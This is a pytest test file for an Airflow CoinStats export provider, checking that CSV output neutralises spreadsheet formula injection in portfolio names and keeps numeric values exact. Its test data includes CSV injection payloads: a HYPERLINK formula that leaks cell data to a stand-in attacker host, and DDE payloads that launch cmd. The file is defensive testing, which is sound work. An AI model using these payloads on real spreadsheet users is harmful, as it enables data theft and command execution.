"""CSV injection: text cells that a spreadsheet would run as a formula are neutralised, numbers are not.

The dangerous text comes in the way a real one would: through the portfolio name chosen at
connect time, which CoinStats (here the sandbox, over HTTP) returns in every transaction and the
export writes to the ``portfolio_name`` column. Transactions also carry negative quantities
(``count`` of outgoing transfers), which must stay exact numbers in CSV.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_coinstats.export import get_schema
from tests.export.helpers import context, file_export

#: One portfolio name per leading character OWASP lists (=, +, -, @, tab, carriage return).
DANGEROUS_NAMES = {
    "equals": '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "carriage_return": "\r=1+2",
}
NUMERIC = frozenset({"decimal", "integer"})


def export(tmp_path: Path, portfolio_id: str, file_format: str) -> list[dict[str, Any]]:
    """Export the portfolio's transactions to a local ``file_format`` file and read every row back."""
    base = tmp_path / file_format
    file_export(base, portfolio_id, ["transactions"], file_format=file_format).execute(context())
    (path,) = (base / "transactions").glob(f"*/*.{file_format}")
    with path.open(encoding="utf-8", newline="") as handle:
        if file_format == "jsonl":
            return [json.loads(line) for line in handle]
        return list(csv.DictReader(handle))


@pytest.mark.parametrize(("index", "name"), enumerate(DANGEROUS_NAMES.values()), ids=DANGEROUS_NAMES.keys())
def test_a_formula_in_a_text_column_is_quoted_in_csv_and_numbers_stay_exact(
    wallet: Callable[..., str], tmp_path: Path, index: int, name: str
) -> None:
    portfolio = wallet(address=f"0x{index + 1:040x}", name=name, transactions=30)  # one portfolio per name
    csv_rows = export(tmp_path, portfolio, "csv")
    json_rows = export(tmp_path, portfolio, "jsonl")

    assert len(csv_rows) == len(json_rows) == 30
    assert {row["portfolio_name"] for row in json_rows} == {name}  # JSON Lines: unchanged
    assert {row["portfolio_name"] for row in csv_rows} == {"'" + name}  # CSV: OWASP's leading quote

    numeric = [c.name for c in get_schema("transactions").columns if c.type in NUMERIC]
    negatives = 0
    for csv_row, json_row in zip(csv_rows, json_rows, strict=True):
        for column in numeric:
            want = "" if json_row[column] is None else str(json_row[column])
            assert csv_row[column] == want, column  # the exact digits, never quoted
            negatives += want.startswith("-")
    assert negatives > 0, "the sandbox data must contain negative amounts for this test to mean anything"


@pytest.mark.parametrize(
    "name",
    ["Cold wallet - savings = long term", "Main\r=1+2", "Main\n@SUM(1+1)", 'Main, "quoted"\r\n'],
    ids=["plain", "carriage_return_inside", "newline_inside", "comma_quote_crlf"],
)
def test_text_that_does_not_start_a_formula_is_written_as_is_in_one_cell(
    wallet: Callable[..., str], tmp_path: Path, name: str
) -> None:
    """Characters inside a value are harmless, but a line break must not end the row there.

    An unquoted carriage return would split the row and could start a forged one (``=1+2``).
    """
    portfolio = wallet(address="0x" + "ab" * 20, name=name, transactions=5)
    csv_rows = export(tmp_path, portfolio, "csv")
    assert len(csv_rows) == 5
    assert {row["portfolio_name"] for row in csv_rows} == {name}
    assert {row["portfolio_id"] for row in csv_rows} == {portfolio}
